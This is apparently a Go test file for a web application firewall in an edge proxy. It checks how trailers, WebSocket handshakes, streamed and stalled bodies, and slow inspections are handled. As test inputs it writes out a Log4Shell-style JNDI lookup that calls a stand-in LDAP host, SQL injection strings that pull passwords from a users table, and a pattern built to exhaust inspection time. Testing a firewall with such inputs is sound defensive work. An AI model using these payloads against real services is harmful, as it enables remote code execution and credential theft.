package edge

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"edge.svc/caddy/core"
	configv1 "edge.svc/caddy/gen/svc/config/v1"
	"edge.svc/caddy/internal/edgetest"
)

// to is a change of a site whose origin is another one.
func to(t *testing.T, origin http.HandlerFunc) func(*configv1.Site) {
	server := httptest.NewServer(origin)
	t.Cleanup(server.Close)
	return func(s *configv1.Site) {
		s.Origins[0].Port = uint32(server.Listener.Addr().(*net.TCPAddr).Port)
		s.Pool.Websocket = true
	}
}

// speak sends text over a connection of its own and returns the answer to it.
func (e *inspected) speak(t *testing.T, text string) (net.Conn, *bufio.Reader, *http.Response) {
	t.Helper()
	conn, err := net.Dial("tcp", e.address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = conn.Close() })
	_ = conn.SetDeadline(time.Now().Add(time.Minute))
	if _, err := io.WriteString(conn, text); err != nil {
		t.Fatal(err)
	}
	reader := bufio.NewReader(conn)
	res, err := http.ReadResponse(reader, nil)
	if err != nil {
		t.Fatal(err)
	}
	return conn, reader, res
}

const (
	commonFields = "Host: a.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
	lookup       = "${jndi:ldap://x.example/a}"
)

// Fields after a body are inspected like those before it. Where the body was not read to its end they cannot be: no origin
// gets them then where attacks are blocked.
func TestFieldsAfterABodyAreInspected(t *testing.T) {
	echo := func(w http.ResponseWriter, r *http.Request) {
		n, _ := io.Copy(io.Discard, r.Body)
		fmt.Fprintf(w, "%d %s", n, r.Trailer.Get("X-Note"))
	}
	for _, c := range []struct {
		mode   configv1.WafMode
		limit  uint32
		body   string
		note   string
		status int
		want   string
	}{
		{block, 1000, "", lookup, 403, ""},
		{block, 1000, "", "hello", 200, "0 hello"},
		{block, 1000, "5\r\nhello\r\n", lookup, 403, ""},
		{block, 6, "5\r\nhello\r\n", "hello", 200, "5 hello"},
		{block, 4, "5\r\nhello\r\n", lookup, 200, "5 "},
		{block, 0, "5\r\nhello\r\n", lookup, 200, "5 "},
		{block, 0, "", lookup, 200, "0 "},
		{detect, 1000, "", lookup, 200, "0 " + lookup},
		{detect, 4, "5\r\nhello\r\n", lookup, 200, "5 " + lookup},
		{detect, 0, "", lookup, 200, "0 " + lookup},
	} {
		e := startInspected(t, wafSettings(c.mode, func(m *configv1.SiteWaf) { m.RequestBodyLimit = c.limit }), to(t, echo))
		_, _, res := e.speak(t, "POST / HTTP/1.1\r\n"+commonFields+"Content-Type: text/plain\r\nTransfer-Encoding: chunked\r\nTrailer: X-Note\r\n\r\n"+
			c.body+"0\r\nX-Note: "+c.note+"\r\n\r\n")
		text, _ := io.ReadAll(res.Body)
		if res.StatusCode != c.status || c.status == 200 && string(text) != c.want {
			t.Errorf("%+v: %d %q", c, res.StatusCode, text)
		}
	}
}

// The handshake of a WebSocket is inspected, and nothing of what follows it is.
func TestHandshakesOfWebSocketsAreInspected(t *testing.T) {
	const attack = "1' or '1'='1' union select password from users-- "
	origin := func(w http.ResponseWriter, r *http.Request) {
		conn, buffered, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		_, _ = io.WriteString(conn, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
		got := make([]byte, len(attack))
		_, _ = io.ReadFull(buffered, got)
		_, _ = conn.Write(got)
	}
	e := startInspected(t, wafSettings(block, sameWAF), to(t, origin))
	handshake := func(target string) string {
		return "GET " + target + " HTTP/1.1\r\n" + commonFields +
			"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
	}
	if _, _, res := e.speak(t, handshake(attackOnSQL)); res.StatusCode != http.StatusForbidden || res.Header.Get("X-Svc-Error") != "waf-blocked" {
		t.Errorf("an attack in the handshake: %d %v", res.StatusCode, res.Header)
	}
	conn, reader, res := e.speak(t, handshake("/"))
	if res.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("%d %v", res.StatusCode, res.Header)
	}
	if _, err := io.WriteString(conn, attack); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, len(attack))
	if _, err := io.ReadFull(reader, got); err != nil || string(got) != attack {
		t.Errorf("%q %v", got, err)
	}
}

// A body that is to be inspected is waited for as long as others are, and one that stalls gets the page of the edge.
func TestBodiesThatStallBeforeTheWAF(t *testing.T) {
	overEachGathering(t, func(t *testing.T, g *gathering) {
		g.site.Pool.SendTimeoutMs = 200
		c := g.client(t, "a.com")
		g.h.change(t, edgetest.Entry("site", "a", g.site), edgetest.Entry("site-waf", "a", wafSettings(block, sameWAF)))
		for _, length := range []int64{-1, 1000} {
			u := g.upload(t, c, length)
			_, _ = u.Write([]byte("hello"))
			if <-u.done; u.status != http.StatusRequestTimeout || u.code != "bad-request" || !strings.Contains(u.text, "<html") {
				t.Errorf("%d: %d %s %.60s %v", length, u.status, u.code, u.text, u.err)
			}
		}
		if n := g.connections.Load(); n != 0 {
			t.Errorf("%d connections to the origin", n)
		}
	})
}

// Where the site wants its bodies as they come, nobody looks into them: the rest of the request is inspected, and they are
// counted.
func TestStreamedBodiesAreNotInspected(t *testing.T) {
	const attack = "q=1'+or+'1'='1'+union+select+password+from+users--+"
	const form = "application/x-www-form-urlencoded"
	e := startInspected(t, wafSettings(block, sameWAF), sameSite)
	if res, _, _ := e.ask(t, "POST", "/", strings.NewReader(attack), form); res.StatusCode != http.StatusForbidden {
		t.Errorf("a gathered attack: %d", res.StatusCode)
	}
	e.change(t, streamsBodies())
	if res, text, _ := e.ask(t, "POST", "/", strings.NewReader(attack), form); res.StatusCode != 200 || !strings.HasPrefix(text, fmt.Sprint(len(attack), " ")) {
		t.Errorf("a streamed attack: %d %s", res.StatusCode, text)
	}
	if res, _, _ := e.ask(t, "POST", attackOnSQL, strings.NewReader("hello"), form); res.StatusCode != http.StatusForbidden {
		t.Errorf("an attack beside a streamed body: %d", res.StatusCode)
	}
	var figures strings.Builder
	for _, w := range core.Each[interface{ WriteMetrics(io.Writer) }](e.core) {
		w.WriteMetrics(&figures)
	}
	if line := `svc_waf_requests_total{outcome="body_uninspected"} 2`; !strings.Contains(figures.String(), line) {
		t.Errorf("not %s", line)
	}
}

// A request whose inspection has no time is refused where attacks are blocked, and else goes on with all of its body.
func TestRequestsThatTakeTooLong(t *testing.T) {
	defer func(before int) { patternTime = before }(patternTime)
	patternTime = 1
	content := "q=" + strings.Repeat("select+union+(%27+", 50_000)
	for _, mode := range []configv1.WafMode{block, detect} {
		e := startInspected(t, wafSettings(mode, func(m *configv1.SiteWaf) { m.RequestBodyLimit = 1 << 20 }), sameSite)
		res, text, found := e.ask(t, "POST", "/", strings.NewReader(content), "application/x-www-form-urlencoded")
		if mode == block && (res.StatusCode != http.StatusServiceUnavailable || res.Header.Get("X-Svc-Error") != "waf-busy") {
			t.Errorf("%d %v", res.StatusCode, res.Header)
		}
		if mode == detect && (res.StatusCode != 200 || !strings.HasPrefix(text, fmt.Sprintf("%d ", len(content)))) {
			t.Errorf("%d %s", res.StatusCode, text)
		}
		if len(found.Rules) > 0 {
			t.Errorf("%+v", found)
		}
	}
}
